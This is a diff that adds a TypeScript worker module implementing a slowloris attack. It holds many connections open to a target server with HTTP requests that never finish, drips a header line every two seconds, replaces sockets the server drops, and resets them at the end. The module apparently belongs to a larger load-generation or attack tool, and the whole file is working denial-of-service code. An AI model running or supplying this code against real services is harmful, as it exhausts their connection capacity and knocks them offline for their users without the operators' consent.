@@ -1,0 +1,50 @@
+/** Opens connections to a service and holds each with a request that never ends (slowloris). */
+import { connect, type Socket } from 'node:net';
+import type { Target } from '../targets.ts';
+import type { WorkerOptions } from '../worker.ts';
+import { finish, lifetime, workerOptions } from './lifetime.ts';
+
+const TICK_MS = 50;
+/** One more header line so often. */
+const DRIP_MS = 2_000;
+
+export interface IdleConnectionsOptions extends WorkerOptions {
+  readonly target: Target;
+  readonly connections: number;
+  readonly openedPerSecond: number;
+}
+
+const options = workerOptions<IdleConnectionsOptions>();
+const { durationMs, target, connections, openedPerSecond } = options;
+const life = lifetime(durationMs);
+const held = new Set<Socket>();
+let accepted = 0;
+let failure = '';
+
+function open(): void {
+  const socket = connect(target.port, target.address);
+  held.add(socket);
+  socket.once('connect', () => {
+    accepted++;
+    socket.write(`GET / HTTP/1.1\r\nHost: ${target.host}\r\n`);
+  });
+  socket.on('error', (error) => {
+    failure = error.message;
+  });
+  // Given up by the service: another one is opened in its place.
+  socket.resume().once('close', () => held.delete(socket));
+}
+
+const drip = setInterval(() => {
+  for (const socket of held) if (socket.writable && !socket.connecting) socket.write('X-More: 1\r\n');
+}, DRIP_MS);
+for (let owed = 0; life.goesOn(); ) {
+  owed = Math.min(connections - held.size, owed + (openedPerSecond * TICK_MS) / 1000);
+  for (; owed >= 1; owed--) open();
+  await life.pause(TICK_MS);
+}
+clearInterval(drip);
+// Reset, not closed: nothing waits in TIME_WAIT for a minute after the end.
+for (const socket of held) socket.resetAndDestroy();
+finish();
+if (accepted === 0) throw new Error(`${target.host} accepts no connection: ${failure}`);
